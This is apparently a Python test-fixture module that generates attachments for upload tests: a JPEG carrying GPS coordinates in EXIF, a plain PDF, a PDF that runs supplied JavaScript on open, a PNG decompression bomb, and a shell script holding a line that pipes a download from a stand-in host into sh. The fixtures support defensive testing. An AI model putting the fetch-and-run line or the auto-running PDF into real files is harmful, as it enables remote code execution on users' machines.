"""Files to attach in tests, made on the spot: a phone photo with its GPS position in EXIF, a
plain PDF, and hostile ones (a PDF with JavaScript, a decompression bomb, a script named .jpg)."""

from __future__ import annotations

import io

from PIL import Image
from PIL.ExifTags import GPS, IFD, Base
from pypdf import PdfWriter
from pypdf.generic import DictionaryObject, NameObject, TextStringObject

# Madiun's town square, as a phone would record it.
GPS_LATITUDE = (7.0, 37.0, 45.12)
GPS_LONGITUDE = (111.0, 31.0, 22.88)


def photo_with_gps(size: tuple[int, int] = (640, 480)) -> bytes:
    """A JPEG carrying the camera's make and where it was taken."""
    image = Image.new("RGB", size, (200, 120, 40))
    exif = Image.Exif()
    exif[Base.Make] = "PhoneCam"
    gps = exif.get_ifd(IFD.GPSInfo)
    gps[GPS.GPSLatitudeRef] = "S"
    gps[GPS.GPSLatitude] = GPS_LATITUDE
    gps[GPS.GPSLongitudeRef] = "E"
    gps[GPS.GPSLongitude] = GPS_LONGITUDE
    out = io.BytesIO()
    image.save(out, "JPEG", exif=exif)
    return out.getvalue()


def has_gps(jpeg: bytes) -> bool:
    with Image.open(io.BytesIO(jpeg)) as image:
        return bool(image.getexif().get_ifd(IFD.GPSInfo))


def pdf(*, javascript: str | None = None) -> bytes:
    """A one-page PDF; with ``javascript``, one that runs it when opened."""
    writer = PdfWriter()
    writer.add_blank_page(width=595, height=842)
    if javascript is not None:
        writer._root_object[NameObject("/OpenAction")] = DictionaryObject(
            {
                NameObject("/S"): NameObject("/JavaScript"),
                NameObject("/JS"): TextStringObject(javascript),
            }
        )
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def decompression_bomb() -> bytes:
    """A PNG of a few kilobytes that would decode to 100 megapixels."""
    out = io.BytesIO()
    Image.new("1", (10_000, 10_000)).save(out, "PNG", optimize=True)
    return out.getvalue()


SCRIPT = b"#!/bin/sh\ncurl http://example.invalid/x | sh\n"
